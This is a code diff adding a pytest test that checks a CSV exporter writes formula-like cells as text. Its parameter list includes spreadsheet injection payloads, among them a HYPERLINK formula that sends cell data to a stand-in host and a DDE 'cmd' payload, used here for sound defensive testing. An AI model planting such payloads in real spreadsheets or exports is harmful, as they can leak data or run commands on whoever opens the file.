@@ -229,3 +229,20 @@ def test_export_a_format_is_one_writer_and_one_registry_line(tmp_path, monkeypat
     with pytest.raises(SystemExit):
         main(["export", "--help"])
     assert "ids: one document id per line" in capsys.readouterr().out
+
+
+@pytest.mark.parametrize(
+    "hostile",
+    ['=HYPERLINK("http://evil.example/?q="&A1, "click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
+     "\t=1+1", "\r=1+1", "＝1+1"],
+)  # fmt: skip
+def test_export_csv_formula_like_cells_are_written_as_text(hostile):
+    text = f"{hostile} Militants attacked a police post in Quetta."
+    doc = Document(id=hostile, text=text, events=[Event("v1", "ASSAULT", evidence=[fx.at(text, text)])])
+    out = io.StringIO()
+    export([doc], "csv", out)
+    row = next(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
+    assert row["notes"].startswith("'") and row["doc_id"] == "'" + hostile.replace("\r", "\n")
+    assert row["notes"].endswith("Militants attacked a police post in Quetta.")
+    assert row["evidence_start"] == "0" and row["fatalities"] == "0"  # numbers untouched
+    assert not any(v[:1] in "=+-@\t\r" for v in row.values() if v)
